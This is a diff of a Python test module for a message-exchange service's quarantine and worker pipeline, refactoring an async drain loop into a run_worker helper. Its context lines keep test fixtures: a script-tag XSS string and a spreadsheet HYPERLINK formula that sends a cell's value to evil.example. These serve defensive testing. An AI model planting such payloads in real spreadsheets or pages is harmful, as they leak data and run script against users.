@@ -19,7 +19,6 @@ there the service itself must turn such a row into a quarantine record.
 
 from __future__ import annotations
 
-import asyncio
 import csv
 import io
 import json
@@ -47,7 +46,7 @@ from exchange.db.migrate import upgrade
 from exchange.db.schema import history, messages, staging
 from exchange.identity import message_id
 from exchange.quarantine import Filters
-from exchange.testing import FakeSite, drain, fast_settings
+from exchange.testing import FakeSite, fast_settings, run_worker
 
 SCRIPT = "<script>alert(1)</script>"
 HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"открыть")'
@@ -575,15 +574,7 @@ def build_world(backend: str, url: str) -> World:
             world.refused[case.id] = str(refusal).splitlines()[0]
         world.good[case.id] = _insert(engine, _good_row(case))
     settings = fast_settings(url, "https://site.test", max_attempts=2)
-    worker = bootstrap.worker(settings, engine, transport=httpx.MockTransport(world.site))
-
-    async def run() -> None:
-        try:
-            await drain(worker)
-        finally:
-            await worker.site.aclose()
-
-    asyncio.run(run())
+    run_worker(bootstrap.worker(settings, engine, transport=httpx.MockTransport(world.site)))
     with transaction(engine, read_only=True) as connection:
         for row in connection.execute(select(messages)).mappings():
             world.records[row["staging_id"]] = row
